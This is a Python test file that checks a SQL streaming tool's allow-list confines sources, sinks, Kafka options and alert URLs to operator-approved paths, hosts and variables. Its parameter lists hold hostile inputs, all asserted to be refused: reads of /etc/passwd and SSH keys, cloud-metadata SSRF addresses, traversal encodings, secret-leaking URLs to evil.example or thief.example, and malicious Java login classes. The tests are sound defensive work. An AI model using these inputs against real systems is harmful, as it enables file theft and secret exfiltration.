"""X1: what SQL may reach of the machine and the network is what whoever operates tidegate lists."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner

from tests.conftest import ROOT
from tidegate.cli.main import app
from tidegate.errors import Problems, TidegateError
from tidegate.ingest.sources.files import list_files
from tidegate.project import Project
from tidegate.session.session import Session
from tidegate.sql import analyse
from tidegate.sql.catalog.catalog import Catalog
from tidegate.sql.dialect.dialect import tokenize
from tidegate.sql.dialect.parsing import parse_query
from tidegate.sql.dialect.text import Text
from tidegate.sql.statements.queries import QueryAnalysis
from tidegate.sql.statements.statements import CreateRelation

if TYPE_CHECKING:
    from pyspark.sql import SparkSession

FILES = "CREATE SOURCE s (id INT) WITH (connector = '{connector}', path = '{path}') FORMAT PLAIN ENCODE JSON;"
KAFKA = (
    "CREATE SOURCE s (id INT) WITH (connector = 'kafka', topic = '{topic}', "
    "properties.bootstrap.server = '{server}'{more}) FORMAT PLAIN ENCODE {encode};"
)
SINK = (
    "CREATE TABLE t (id INT, at TIMESTAMP, WATERMARK FOR at AS at) APPEND ONLY; "
    "CREATE SINK s FROM t WITH (connector = '{connector}', {options}) FORMAT PLAIN ENCODE JSON;"
)


def kafka(server: str = "127.0.0.1:9092", more: str = "", topic: str = "t", encode: str = "JSON") -> str:
    return KAFKA.format(server=server, more=f", {more}" if more else "", topic=topic, encode=encode)


def registry(url: str) -> str:
    return kafka(encode=f"AVRO (schema.registry = '{url}')")


def files(path: str, connector: str = "filesystem") -> str:
    return FILES.format(path=path, connector=connector)


def sink(path: str) -> str:
    return SINK.format(connector="filesystem", options=f"path = '{path}'")


def define(sql: str, catalog: Catalog) -> None:
    """What a session does with CREATE SOURCE and CREATE TABLE."""
    for statement in analyse(sql, catalog):
        if isinstance(statement, CreateRelation):
            catalog.add(statement.relation)


@pytest.fixture
def problems(tmp_path: Path) -> Callable[[str, str], list[TidegateError]]:
    """What is wrong with SQL under an `allow:` of the environment, as a file of the project."""

    def problems(sql: str, allow: str = "{}") -> list[TidegateError]:
        root = tmp_path / "shop"
        for folder in ("assets", "resources", "data"):
            (root / folder).mkdir(parents=True, exist_ok=True)
        (root / "assets" / "a.sql").write_text(sql)
        (root / "resources" / "local.yaml").write_text(f"allow: {allow}\n")
        found = Problems()
        Project.load(root).catalog(found)
        return found.errors

    return problems


OUTSIDE = [
    files("/etc/passwd"),
    files("file:///etc"),
    files("../other/data"),
    files("~/.ssh"),
    files("/etc/*.conf"),
    files("data/../../other"),
    files("link/x"),
    files("/etc/passwd", "replay"),
    files("s3://theirs/data"),
    files(".tidegate/warehouse/main"),
    files("dataset:flights/x.csv"),
    files("dataset:flights/../../../../etc/passwd"),
    files("dataset:../x"),
    sink("/srv/out"),
    sink("../out"),
    sink("s3://theirs/out"),
    sink("assets"),
    sink("resources/x"),
    sink(".tidegate/warehouse/main/orders"),
    kafka("broker.example:9092"),
    kafka("127.0.0.1:9092,broker.example:9092"),
    # Kafka's client takes the last of what could be a host.
    kafka("localhost/broker.example:9092"),
    kafka("localhost:9092/broker.example:9092"),
    kafka("x://localhost/[fe80::1]:9092"),
    kafka("broker.example@localhost:9092"),
    kafka("localhost:9092 broker.example:9092"),
    kafka("${BROKER}"),
    kafka("${BROKER}.evil.example:9092"),
    kafka("169.254.169.254:80"),
    kafka(topic="${HOME}"),
    kafka(more="properties.client.id = '${AWS_SECRET_ACCESS_KEY}'"),
    kafka(more="properties.ssl.truststore.location = '/etc/passwd'"),
    kafka(more="properties.sasl.oauthbearer.token.endpoint.url = 'https://evil.example/'"),
    kafka(more="properties.sasl.oauthbearer.jwks.endpoint.url = 'file:///etc/passwd'"),
    kafka(more="properties.sasl.kerberos.kinit.cmd = '/srv/x'"),
    kafka(more="properties.metric.reporters = 'com.evil.Reporter'"),
    kafka(more="properties.sasl.login.class = 'com.evil.Login'"),
    kafka(more="properties.config.providers = 'file'"),
    # A class of no package.
    kafka(more="properties.ssl.engine.factory.class = 'Evil'"),
    # Nothing but the path of a source is a pattern.
    sink("a*/../assets"),
    sink("a*/../../out"),
    sink("a*/../.tidegate/warehouse/main/orders"),
    sink("data/[x]/passwd"),
    kafka(more="properties.ssl.truststore.location = 'data/[x]/passwd'"),
    kafka(encode="AVRO (schema.location = 'data/[x]/../../../secret.avsc')"),
    files("a*/../../other"),
    registry("https://evil.example"),
    registry("http://169.254.169.254/latest"),
    registry("http://localhost@evil.example"),
    registry("http://evil.example#@localhost"),
    registry("http://evil.example\\\\@localhost"),
    kafka(encode="AVRO (schema.location = '../../secret.avsc')"),
]


@pytest.mark.parametrize("sql", OUTSIDE)
def test_what_is_not_listed_is_refused_in_files_and_in_the_shell(
    sql: str, problems: Callable[..., list[TidegateError]], tmp_path: Path
) -> None:
    (tmp_path / "shop" / "data").mkdir(parents=True)
    (tmp_path / "shop" / "link").symlink_to("/etc")
    (tmp_path / "shop" / "data" / "[x]").symlink_to("/etc")
    (error, *_) = problems(sql)
    assert error.code == "TG614"
    assert error.location is not None
    if "who" in (error.hint or ""):
        assert "resources/local.yaml, allow: {" in (error.hint or "")
    project = Project.load(tmp_path / "shop")
    (tmp_path / "shop" / "assets" / "a.sql").unlink()
    catalog = project.catalog()
    with pytest.raises(TidegateError) as refused:
        define(sql, catalog)
    assert refused.value.code == "TG614"


@pytest.mark.parametrize(
    ("sql", "option", "text"),
    [
        (sink("${PLACE}_sent"), "path", "${PLACE}"),
        (sink("${PLACE}"), "path", "${PLACE}"),
        (files("data/${OTHER}/*.json"), "path", "${OTHER}"),
        (files("${", "replay"), "path", "${"),
        (files("$${PLACE}"), "path", "${PLACE}"),
        (kafka(encode="AVRO (schema.location = '${PLACE}.avsc')"), "schema.location", "${PLACE}"),
        (kafka(encode="JSON (timestamp_format = '${PLACE}')"), "timestamp_format", "${PLACE}"),
        (
            "CREATE SINK out FROM s WITH (connector = 'iceberg', table = '${PLACE}');",
            "table",
            "${PLACE}",
        ),
    ],
)
def test_X1_what_looks_like_a_variable_is_no_part_of_a_name(
    sql: str, option: str, text: str, problems: Callable[..., list[TidegateError]]
) -> None:
    """Where no variable is put in, a listed one is as wrong as any other."""
    if option == "table":
        sql = files("data") + sql
    (error, *_) = problems(sql, "{variables: [PLACE, BROKER]}")
    assert error.code == "TG614"
    assert (
        error.message == f"{option}: {text} would be used literally, because this option takes no variables"
    )
    assert error.location is not None
    assert text in error.location.text[error.location.column - 1 :][: error.location.length]
    assert "resources/local.yaml" in (error.hint or "")
    assert "PLACE, BROKER" in (error.hint or "")


JAAS = 'org.apache.kafka.common.security.plain.PlainLoginModule required username="a" password="${P}";'


@pytest.mark.parametrize(
    "line",
    [
        'com.sun.security.auth.module.JndiLoginModule required x="y" password="${P}";',
        f'{JAAS} com.evil.Login required password="${{P}}";',
        f'/* " */ com.evil.Login required password="${{P}}"; /* " */ {JAAS}',
        'com.sun.security.auth.module.Krb5LoginModule required keyTab="/etc/krb5.keytab" password="${P}";',
    ],
)
def test_a_login_line_runs_known_modules_only(
    line: str, problems: Callable[..., list[TidegateError]]
) -> None:
    allow = "{variables: [P]}"
    assert not problems(kafka(more=f"properties.sasl.jaas.config = '{JAAS}'"), allow)
    (error, *_) = problems(kafka(more=f"properties.sasl.jaas.config = '{line}'"), allow)
    assert error.code == "TG614"


ALLOWED = [
    (files("data/*.json"), "{}"),
    (files("data"), "{}"),
    (files("/srv/landing/x/*.json"), "{folders: [/srv/landing]}"),
    (files("../other"), "{folders: [., ../other]}"),
    (files("s3://lake/landing/x"), "{folders: ['s3://lake/landing']}"),
    (files("dataset:flights/x.csv"), "{python: true}"),
    (sink("out"), "{}"),
    (kafka("localhost:9092,[::1]:9092,127.0.0.2:1"), "{}"),
    (kafka("b1.example:9092,b2.example:9092"), "{endpoints: ['*.example:9092']}"),
    (kafka("b1.example:9092"), "{endpoints: [b1.example]}"),
    (kafka("${BROKER}"), "{variables: [BROKER]}"),
    (kafka(more="properties.metric.reporters = 'com.ours.Reporter'"), "{code: [com.ours.Reporter]}"),
    (
        registry("https://registry.example/api/v1"),
        "{endpoints: [localhost, 'https://registry.example/api']}",
    ),
    (kafka(encode="AVRO (schema.location = 'schemas/x.avsc')"), "{}"),
    (kafka(topic="${T}_sent", more="properties.client.id = '$${x}'"), "{variables: [T]}"),
    (files("data").replace("JSON", "CSV (null_value = '${}')"), "{}"),
]


@pytest.mark.parametrize(("sql", "allow"), ALLOWED)
def test_what_is_listed_is_reached(
    sql: str, allow: str, problems: Callable[..., list[TidegateError]]
) -> None:
    assert problems(sql, allow) == []


@pytest.mark.parametrize(
    ("sql", "allow"),
    [
        (files("/srv/landing2"), "{folders: [/srv/landing]}"),
        (files("data"), "{folders: [/srv/landing]}"),
        (files("s3://lake/landing2/x"), "{folders: ['s3://lake/landing']}"),
        (kafka("evilexample:1"), "{endpoints: ['*.example']}"),
        (kafka("b.example:9093"), "{endpoints: ['b.example:9092']}"),
        (kafka(), "{endpoints: [b.example]}"),
        (
            registry("http://r.example/a/../b"),
            "{endpoints: [localhost, 'http://r.example/a']}",
        ),
        *(
            (registry(f"http://r.example/a/{up}/b"), "{endpoints: [localhost, 'http://r.example/a']}")
            for up in (
                "%2e%2e",
                "%2E.",
                ".%252e",
                "..%2fb%2f..",
                "x\\\\..\\\\..",
                "..;",
                "..;x=1",
                "%2e.%3bx",
            )
        ),
        # Not every server takes `%2f` for a slash, nor `;` for the end of a name.
        *(
            (registry(f"http://r.example/{path}"), "{endpoints: [localhost, 'http://r.example/a']}")
            for path in ("b%2f..%2fa", "b/%2e%2e/a", "a;x/b")
        ),
        (files("dataset:flights//etc/passwd"), "{python: true}"),
        (
            registry("http://r.example:81/a"),
            "{endpoints: [localhost, 'http://r.example/a']}",
        ),
    ],
)
def test_a_list_is_the_whole_list(sql: str, allow: str, problems: Callable[..., list[TidegateError]]) -> None:
    assert [error.code for error in problems(sql, allow)] == ["TG614"]


MACHINE = [
    "parquet.`/etc/x`",
    "csv.`file:///etc/passwd`",
    "text.`/etc/passwd`",
    "delta.`/x`",
    "binaryFile.`/etc/passwd`",
    "read_files('/etc')",
    "read_csv('/etc/passwd')",
    "`/etc/passwd`",
    "spark_catalog.default.x",
    "tidegate.main.t",
]


@pytest.mark.parametrize("table", MACHINE)
@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM {}",
        "CREATE MATERIALIZED VIEW v AS SELECT * FROM {}",
        "CREATE SINK k AS SELECT * FROM {} WITH (connector = 'console')",
        "INSERT INTO t SELECT * FROM {}",
        "SELECT (SELECT count(*) FROM {}) AS n FROM t",
        "WITH x AS (SELECT * FROM {}) SELECT * FROM x",
        "SELECT * FROM ({})",
        "SELECT * FROM (({})) AS x",
        "SELECT * FROM ({} JOIN t ON TRUE)",
        "SELECT * FROM (t JOIN {} ON TRUE) AS x",
        "SELECT * FROM ((t) JOIN ({}) ON TRUE)",
        "SELECT * FROM t, ({})",
        "SELECT * FROM t, LATERAL {}",
        "SELECT * FROM t LEFT JOIN LATERAL {} AS x ON TRUE",
        "INSERT INTO t SELECT * FROM t, LATERAL {}",
        "SELECT * FROM LATERAL {}",
        "SELECT * FROM t LEFT JOIN ({}) AS x ON TRUE",
        "SELECT 1 UNION ALL (SELECT 1 FROM ({}))",
        "SELECT EXISTS (SELECT 1 FROM ({})) FROM t",
        "SELECT * FROM (t JOIN t AS u ON EXISTS (SELECT 1 FROM {}))",
        "SELECT * FROM range((SELECT max(x) FROM {}))",
        "SELECT * FROM explode((SELECT collect_list(x) FROM {}))",
        "SELECT * FROM t, LATERAL explode((SELECT collect_list(x) FROM {}))",
        "SELECT * FROM t LATERAL VIEW explode((SELECT collect_list(x) FROM {})) y AS z",
        "VALUES ((SELECT max(x) FROM {}))",
        "SELECT * FROM (VALUES ((SELECT max(x) FROM {}))) AS x",
        "SELECT * FROM t PIVOT (count(*) FOR id IN ((SELECT 1 FROM {})))",
        "SELECT * FROM t FOR SYSTEM_TIME AS OF (SELECT max(x) FROM {})",
        "SELECT * FROM t TABLESAMPLE ((SELECT 1 FROM {}) ROWS)",
        "INSERT INTO t SELECT * FROM ({})",
        "DELETE FROM k WHERE EXISTS (SELECT 1 FROM ({}))",
        "UPDATE k SET at = (SELECT max(at) FROM ({}))",
        "CREATE MATERIALIZED VIEW v AS SELECT at FROM ({}) EMIT ON WINDOW CLOSE",
        "CREATE SINK k AS SELECT * FROM ({}) WITH (connector = 'console')",
    ],
)
def test_a_query_reads_what_is_defined_and_no_paths(table: str, statement: str) -> None:
    project = Project.temporary()
    try:
        catalog = project.catalog()
        define("CREATE TABLE t (id INT, at TIMESTAMP, WATERMARK FOR at AS at) APPEND ONLY", catalog)
        define("CREATE TABLE k (id INT PRIMARY KEY, at TIMESTAMP)", catalog)
        with pytest.raises(TidegateError):
            list(analyse(statement.format(table), catalog))
    finally:
        project.remove()


@pytest.mark.parametrize(
    ("query", "columns"),
    [
        ("SELECT * FROM (t) AS x JOIN (k) ON x.id = k.id", ["id", "at", "id", "at"]),
        ("SELECT x.id FROM ((t)) AS x", ["id"]),
        ("SELECT t.id, y.at FROM (t JOIN (k) AS y ON t.id = y.id)", ["id", "at"]),
        ("SELECT * FROM (t JOIN k ON t.id = k.id) AS x (a, b, c, d)", ["a", "b", "c", "d"]),
        ("SELECT x.at FROM (t LEFT JOIN k USING (id, at)) AS x", ["at"]),
        ("WITH q AS (SELECT id AS i FROM t) SELECT * FROM (q) CROSS JOIN (k)", ["i", "id", "at"]),
        ("SELECT * FROM range((SELECT max(id) FROM t))", None),
        ("VALUES ((SELECT max(id) FROM k))", ["col1"]),
    ],
)
def test_what_stands_in_brackets_is_looked_up(query: str, columns: list[str] | None) -> None:
    catalog = Catalog()
    define("CREATE TABLE t (id INT, at TIMESTAMP, WATERMARK FOR at AS at) APPEND ONLY", catalog)
    define("CREATE TABLE k (id INT PRIMARY KEY, at TIMESTAMP)", catalog)
    text = Text(query)
    analysis = QueryAnalysis(text, catalog)
    assert analysis.run(parse_query(text, tokenize(text))) == columns
    assert set(analysis.relations) == {name for name in "tk" if re.search(rf"\b{name}\b(?!\.)", query)}
    with pytest.raises(TidegateError, match='no column "none"'):
        list(analyse("SELECT none FROM (t JOIN k ON t.id = k.id)", catalog))


@pytest.mark.spark
def test_a_file_is_no_table_for_the_engine_either(spark: SparkSession, tmp_path: Path) -> None:
    """Should the analysis ever let one through."""
    (tmp_path / "x.txt").write_text("secret")
    with Session.open(project=Project.temporary(), spark=spark) as session:
        with pytest.raises(Exception, match="TABLE_OR_VIEW_NOT_FOUND"):
            session.spark.sql(f"SELECT * FROM text.`{tmp_path}/x.txt`").collect()
        rows = session.execute("SELECT a.id FROM (range(2) AS a JOIN (range(1, 3)) AS b ON a.id = b.id)")
        assert rows.rows() == [(1,)]


@pytest.mark.parametrize(
    "setting",
    [
        "SET spark.sql.warehouse.dir = '/srv'",
        "SET spark.hadoop.fs.s3a.access.key = 'x'",
        "SET spark.sql.catalog.tidegate.warehouse = '/srv'",
        "SET hive.metastore.uris = 'x'",
        "ADD JAR '/srv/x.jar'",
        "CREATE FUNCTION f AS 'com.evil.F' USING JAR '/srv/x.jar'",
        "LOAD DATA INPATH '/etc/passwd' INTO TABLE t",
        "CREATE TABLE x USING parquet LOCATION '/etc'",
        "INSERT OVERWRITE DIRECTORY '/srv/x' SELECT 1",
        "CACHE TABLE t",
        "EXECUTE IMMEDIATE 'SELECT 1'",
        "USE spark_catalog",
    ],
)
def test_no_statement_changes_where_or_as_whom_things_run(setting: str) -> None:
    with pytest.raises(TidegateError):
        list(analyse(setting, Catalog()))


@pytest.mark.parametrize("place", ["WATERMARK FOR at AS {}", "x STRING AS {}, WATERMARK FOR at AS at"])
@pytest.mark.parametrize(
    "expression",
    ["reflect('java.lang.System', 'exit', 0)", "input_file_name()", "(SELECT max(a) FROM text.`/x`)"],
)
def test_strategies_and_generated_columns_reach_nothing(place: str, expression: str) -> None:
    sql = f"CREATE TABLE t (id INT, at TIMESTAMP, {place.format(expression)}) APPEND ONLY"
    with pytest.raises(TidegateError):
        list(analyse(sql, Catalog()))


def test_a_data_set_needs_python_to_be_on(tmp_path: Path) -> None:
    """Also for who asks the engine, past the analysis."""
    from tidegate.ingest.sources.files import resolve

    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "flights.py").write_text("raise SystemExit('it ran')\n")
    with pytest.raises(TidegateError) as refused:
        resolve(Project.load(tmp_path), "dataset:flights/x.csv")
    assert refused.value.code == "TG614"
    assert Project.load(ROOT).env.allow.python


MINE = "CREATE TABLE t (id INT) APPEND ONLY;\n"
#: Wherever the data team's files are read with variables.
FILES_WITH_VARIABLES = {
    "assets/a.sql": "-- ---\n-- description: ${{{}}}\n-- ---\n" + MINE,
    "quality/t.yaml": (
        "asset: t\nexpectations:\n  - expect_column_values_to_not_be_null: {{column: id, description: '${{{}}}'}}\n"
    ),
    "jobs/schedules.yaml": (
        "schedules:\n  - {{name: a, cron: '1 * * * *', timezone: '${{{}}}', select: '*', enabled: false}}\n"
    ),
    "jobs/amendments.yaml": (
        "amendments:\n  - {{name: a, cron: '1 * * * *', timezone: '${{{}}}', select: '*', enabled: false}}\n"
    ),
    "jobs/maintenance.yaml": "tables:\n  t: {{retention: '${{{}}}'}}\n",
}


@pytest.mark.parametrize("file", FILES_WITH_VARIABLES)
def test_X1_a_variable_that_is_not_listed_is_in_no_file_of_the_project(
    file: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLANTED", "hunter2-hunter2")
    monkeypatch.setenv("LISTED", {"jobs/maintenance.yaml": "9 days"}.get(file, "UTC"))
    (tmp_path / "resources").mkdir()
    (tmp_path / "resources" / "local.yaml").write_text("allow: {variables: [LISTED]}\n")
    path = tmp_path / file
    for folder in ("assets", path.parent.name):
        (tmp_path / folder).mkdir(exist_ok=True)
    (tmp_path / "assets" / "a.sql").write_text(MINE)
    for name in ("PLANTED", "LISTED"):
        path.write_text(FILES_WITH_VARIABLES[file].format(name))
        done = CliRunner().invoke(app, ["check", "--project", str(tmp_path)])
        assert ("TG614" in done.output) == (name == "PLANTED"), done.output
        assert "hunter2" not in done.output
        said = (
            'the operator of tidegate can allow it in resources/local.yaml, allow: {variables: ["PLANTED"]}'
        )
        assert (said in done.output) == (name == "PLANTED")


def test_X1_a_target_of_alerts_uses_the_variables_that_are_listed_for_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who writes jobs/ could else have any secret of the process sent to any address."""
    monkeypatch.setenv("PLANTED", "hunter2-hunter2")
    for folder in ("assets", "jobs", "resources"):
        (tmp_path / folder).mkdir()
    (tmp_path / "assets" / "a.sql").write_text(MINE)

    def check(url: str, allow: str) -> str:
        target = f"alerts: {{targets: [{{name: t, url: '{url}'}}], routes: [{{to: [t]}}]}}\n"
        (tmp_path / "jobs" / "alerts.yaml").write_text(target)
        (tmp_path / "resources" / "local.yaml").write_text(f"allow: {{{allow}}}\n")
        text: str = CliRunner().invoke(app, ["check", "--project", str(tmp_path)]).output
        assert "hunter2" not in text
        return text

    url = "json://thief.example/${PLANTED}"
    for allow in ("", "variables: [OTHER]", "alerts: [TOKEN]"):
        said = check(url, allow)
        assert "TG614: targets of alerts may not use the environment variable PLANTED" in said
        assert (
            'the operator of tidegate can allow it in resources/local.yaml, allow: {alerts: ["PLANTED"]}'
            in said
        )
        assert "jobs/alerts.yaml:1:" in said
    for allow in ("variables: [PLANTED]", "alerts: [PLANTED]"):
        assert "no problems" in check(url, allow)
    # What a new project has, without a list; and a variable of alerts is none of SQL.
    assert "no problems" in check("${TIDEGATE_ALERT_URL}", "")
    assert "TG614" in check("${TIDEGATE_ALERT_URL}", "alerts: []")
    (tmp_path / "assets" / "a.sql").write_text(FILES_WITH_VARIABLES["assets/a.sql"].format("PLANTED"))
    assert "files of a project may not use" in check(url, "alerts: [PLANTED]")


def test_X1_a_link_in_a_source_s_folder_leads_to_no_other(tmp_path: Path) -> None:
    root = tmp_path / "shop"
    for folder in (
        root / "resources",
        root / "in" / "a",
        root / ".tidegate",
        tmp_path / "landing",
        tmp_path / "secret",
    ):
        folder.mkdir(parents=True)
        (folder / "x.json").write_text("{}")
    (root / "resources" / "local.yaml").write_text("allow: {folders: [., ../landing]}\n")
    project = Project.load(root)
    (root / "in" / "own.json").symlink_to(root / "in" / "a" / "x.json")
    (root / "in" / "landing").symlink_to(tmp_path / "landing")
    known = ["a/x.json", "landing/x.json", "own.json"]
    assert [file.path for file in list_files(project, "s", "in")] == known
    (tmp_path / "landing" / "deeper").symlink_to(tmp_path / "secret")
    for place, target in (
        ("landing/deeper", None),
        ("x.json", tmp_path / "secret" / "x.json"),
        ("a/b", tmp_path / "secret"),
        ("a/c", root / ".tidegate"),
    ):
        link = root / "in" / place
        if target is not None:
            link.symlink_to(target)
        for path in ("in", "in/*"):
            with pytest.raises(TidegateError, match="is a link: ") as refused:
                list_files(project, "s", path)
            assert refused.value.code == "TG614"
            assert place in refused.value.message
            assert refused.value.hint is not None
        # What the pattern does not name is not read.
        assert [file.path for file in list_files(project, "s", "in/own*")] == ["own.json"]
        link.unlink()
    assert [file.path for file in list_files(project, "s", "in")] == known


@pytest.mark.parametrize(
    ("path", "warehouse"),
    [
        ("tables/main/orders/data", "tables"),
        ("tables/_streams/x", "./tables/"),
        ("link/x", "tables"),
        ("tables", "tables"),
        ("s3://lake/tables/main/x", "s3://lake/tables"),
    ],
)
def test_X3_no_sink_writes_files_among_the_tables_of_a_warehouse(
    path: str, warehouse: str, tmp_path: Path
) -> None:
    for folder in ("assets", "resources", "tables"):
        (tmp_path / folder).mkdir()
    (tmp_path / "link").symlink_to("tables")
    catalog = "" if warehouse[:2] != "s3" else ", catalog: {type: rest, uri: 'http://127.0.0.1:1'}"
    text = f"warehouse: {{path: {warehouse}{catalog}}}\nallow: {{folders: [., 's3://lake']}}\n"
    (tmp_path / "resources" / "local.yaml").write_text(text)
    catalog_ = Project.load(tmp_path).catalog()
    define(SINK.split(";")[0], catalog_)
    with pytest.raises(TidegateError, match="is in the warehouse") as refused:
        list(analyse(SINK.split(";")[1].format(connector="filesystem", options=f"path = '{path}'"), catalog_))
    assert refused.value.code == "TG614"
    beside = path.replace("tables", "beside").replace("link", "beside")
    list(analyse(SINK.split(";")[1].format(connector="filesystem", options=f"path = '{beside}'"), catalog_))


@pytest.mark.parametrize(
    "table",
    [
        "main/x.y",
        "main/orders/data.x",
        "main/.x",
        "x.y/z",
        "a\\\\b",
        "_streams.main",
        "_Streams.x",
        "v$next",
        " x",
        "x\x01",
    ],
)
def test_X3_the_table_of_a_sink_is_a_name_and_no_path(table: str) -> None:
    catalog = Catalog()
    define(SINK.split(";")[0], catalog)
    with pytest.raises(TidegateError, match=r"^table: |error TG404: table: ") as refused:
        list(analyse(f"CREATE SINK s FROM t WITH (connector = 'iceberg', table = '{table}')", catalog))
    assert refused.value.code == "TG404"
